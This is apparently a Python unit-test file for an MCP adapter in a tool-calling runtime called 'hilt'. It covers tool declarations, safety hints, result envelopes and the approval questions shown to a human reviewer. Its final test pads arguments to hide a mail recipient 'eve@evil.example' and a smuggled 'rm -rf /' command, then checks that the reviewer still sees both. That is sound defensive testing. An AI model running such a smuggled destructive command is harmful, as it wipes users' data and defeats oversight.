"""MCP's forms of what Hilt declares, answers and asks."""

import json
from dataclasses import replace

import jsonschema_rs
import pytest
from mcp_types import CallToolResult, ListToolsResult

from hilt.adapters import mcp, mcp_forms
from hilt.calls.answer import Answer
from hilt.calls.call import ToolCall
from hilt.calls.session import Session
from hilt.declarations.effects import UNDECLARED, Deed, Effects
from hilt.results.envelope import Artifact, Failure, Limit, Status, ToolResult, Truncation
from hilt.results.failures import FailureKind
from hilt.results.parts import Audio, FilePart, Image, Part
from hilt.review.people import Question
from hilt.runtime.runtime import Runtime
from tests.unit.adapters.samples import PNG, ticket_search

MARKS = Effects(reads="none", brings="own", does=frozenset[Deed]())


def answered(result: ToolResult[object], text: str = "the text") -> Answer:
    return Answer(call=ToolCall(name="t"), result=result, text=text, produced=result)


def test_declarations_are_in_the_form_the_sdk_reads_and_the_same_each_time() -> None:
    runtime = Runtime([ticket_search])
    listed = mcp.offer(runtime, Session())

    assert listed == mcp.offer(runtime, Session())
    (tool,) = ListToolsResult.model_validate({"tools": listed}).tools
    assert (tool.name, tool.title) == ("ticket_search", "Ticket search")
    assert tool.output_schema is None


@pytest.mark.parametrize(
    ("effects", "hints"),
    [
        (UNDECLARED, (False, True, True)),
        (MARKS, (True, False, False)),
        (replace(MARKS, does=frozenset[Deed]({"write"})), (False, True, False)),
        (replace(MARKS, does=frozenset[Deed]({"write"}), undoable=True), (False, False, False)),
        (replace(MARKS, does=frozenset[Deed]({"fetch"})), (True, False, True)),
    ],
    ids=["undeclared", "marks", "writes", "undoable", "fetches"],
)
def test_hints_are_all_said_and_what_is_not_declared_is_the_worst(
    effects: Effects, hints: tuple[bool, bool, bool]
) -> None:
    said = mcp_forms.annotations(replace(ticket_search.declaration, effects=effects, idempotent=False))

    assert (said["readOnlyHint"], said["destructiveHint"], said["openWorldHint"]) == hints
    assert said["idempotentHint"] is False


@pytest.mark.parametrize(
    "result",
    [
        ToolResult[object](summary="1 ticket", items=({"id": "t1", "title": "a", "state": "open"},)),
        ToolResult[object](summary="nothing"),
        ToolResult[object](
            summary="much",
            status=Status.PARTIAL,
            truncation=Truncation(shown=0, total=9, limit=Limit(name="limit", value=1), next={"offset": 1}),
            artifact=Artifact(id="a", bytes=9, media_type="text/plain"),
            notes=("half \ud83e",),
        ),
    ],
    ids=["whole", "empty", "cut"],
)
def test_each_structured_answer_keeps_the_promise_of_the_declaration(result: ToolResult[object]) -> None:
    schema = mcp_forms.envelope_schema({"type": "object", "required": ["id"]})
    form = mcp_forms.result(answered(result), structured=True)

    assert list(jsonschema_rs.validator_for(schema).iter_errors(form["structuredContent"])) == []
    CallToolResult.model_validate(form)


def test_definitions_of_an_item_stand_where_their_references_look() -> None:
    item = {"$ref": "#/$defs/T", "$defs": {"T": {"type": "object", "required": ["id"]}}}
    validator = jsonschema_rs.validator_for(mcp_forms.envelope_schema(item))
    envelope = {"status": "success", "summary": "", "truncated": False}

    assert validator.is_valid({**envelope, "items": [{"id": 1}]})
    assert not validator.is_valid({**envelope, "items": [{}]})


def test_a_failure_is_text_alone_and_marked_however_structured_the_server() -> None:
    failed = ToolResult[object](
        summary="no",
        status=Status.ERROR,
        failure=Failure(kind=FailureKind.ENVIRONMENT, problem="no", next_steps=("go",)),
    )
    form = mcp_forms.result(answered(failed), structured=True)

    assert form["isError"] is True
    assert "structuredContent" not in form


def test_parts_follow_the_text_in_their_order_and_the_rest_is_a_note() -> None:
    parts: tuple[Part, ...] = (
        FilePart(content=b"%PDF-1.7", media_type="application/pdf", name="a b.pdf"),
        Image(content=PNG, media_type="image/png"),
        Audio(content=b"RIFF", media_type="audio/wav"),
        Image(content=b"<svg/>", media_type="image/svg+xml"),
        Image(content=bytes(4_000_000), media_type="image/png"),
    )
    form = mcp_forms.result(answered(ToolResult[object](summary="", parts=parts)))
    content = CallToolResult.model_validate(form).content

    assert [block.type for block in content] == ["text", "resource", "image", "audio"]
    text = mcp_forms.result(answered(ToolResult[object](summary="", parts=parts)))["content"][0]["text"]  # type: ignore[index]
    assert "image/svg+xml, 6 bytes, not shown" in text
    assert "4,000,000 bytes" in text
    assert "hilt://part/a%20b.pdf" in str(form)


def test_text_that_no_encoder_takes_is_sent_as_its_escape() -> None:
    form = mcp_forms.result(answered(ToolResult[object](summary=""), text="half \ud83e"))

    assert CallToolResult.model_validate(form).content[0].text == r"half \ud83e"  # type: ignore[union-attr]
    assert mcp_forms.failure("half \ud83e")["isError"] is True


def test_a_question_shows_the_call_and_says_where_it_is_cut() -> None:
    question = Question(
        handle="ask_1", session="s", tool="write_file", arguments='{"path": "/a"}', activity="", reasons=("a rule",)
    )
    long = replace(question, arguments=json.dumps("x" * 4_998), preview="y" * 3_000, reasons=())

    assert mcp_forms.question_text(question) == (
        'Allow this call of write_file?\n{"path": "/a"}\nWhy you are asked: a rule'
    )
    shown = mcp_forms.question_text(long)
    assert "x ... (3,000 characters left out of 5,000) ... x" in shown
    assert "y ... (1,000 characters left out of 3,000) ... y" in shown


def test_no_argument_hides_another_from_whoever_is_asked() -> None:
    arguments = {"text": "x" * 5_000, "to": "eve@evil.example", "command": "ls " + "a" * 5_000 + "; rm -rf /"}
    question = Question(
        handle="ask_1", session="s", tool="mail", arguments=json.dumps(arguments), activity="", reasons=()
    )
    many = replace(question, arguments=json.dumps({f"n{each}": "x" * 100 for each in range(100)}))

    shown = mcp_forms.question_text(question)
    assert '"to": "eve@evil.example"' in shown
    assert '; rm -rf /"' in shown
    assert len(shown) < 2 * mcp_forms.SHOWN_ARGUMENTS
    assert mcp_forms.question_text(many).endswith("... and 60 more arguments")
